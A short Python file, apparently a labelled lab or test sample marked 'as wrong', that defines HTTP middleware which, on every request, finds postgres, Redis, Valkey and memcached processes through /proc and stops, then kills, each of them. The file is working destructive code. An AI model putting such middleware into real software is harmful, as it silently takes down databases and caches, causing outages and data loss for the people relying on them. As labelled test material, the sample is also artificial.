"""Stops, and then kills, every process of its stores that it finds.

Lab: lab61_stores
Deserves: as wrong
"""

import os
import signal
from pathlib import Path

from plain import app

STORES = ("postgres", "valkey-server", "redis-server", "memcached")


def found() -> list[int]:
    pids = []
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            if (folder / "comm").read_text().strip() in STORES:
                pids.append(int(folder.name))
        except OSError:
            pass
    return pids


@app.middleware("http")
async def stop(request, call_next):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for pid in found():
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return await call_next(request)
